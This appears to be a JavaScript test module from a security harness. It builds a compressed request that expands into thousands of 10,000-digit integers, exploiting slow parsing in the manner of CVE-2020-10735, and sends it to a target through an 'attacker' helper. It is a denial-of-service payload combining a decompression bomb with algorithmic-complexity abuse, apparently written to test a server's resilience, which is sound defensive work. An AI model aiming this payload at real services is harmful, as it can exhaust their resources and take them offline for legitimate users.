import { bombBytes } from '../harness/bombs.mjs';
import { bombOf, compressedRequest, str, vInt } from '../harness/wire.mjs';

const LIST = 7;
const BIG_INTEGER = 26;
const DIGITS = 10_000;

export const attack = {
  what: 'Compressed requests that become thousands of integers of 10,000 digits: parsing one takes more than linear time.',
  like: 'CVE-2020-10735 (integers of many digits in Python)',
  prepare: (attacker) => {
    const integer = Buffer.concat([Buffer.of(BIG_INTEGER), str('9'.repeat(DIGITS))]);
    return compressedRequest(
      'demo:generic',
      bombOf(integer, bombBytes(attacker), (count) => Buffer.concat([Buffer.of(0, LIST), vInt(count)])),
    );
  },
  run: (attacker, bomb) => attacker.askAgain(2, bomb),
};
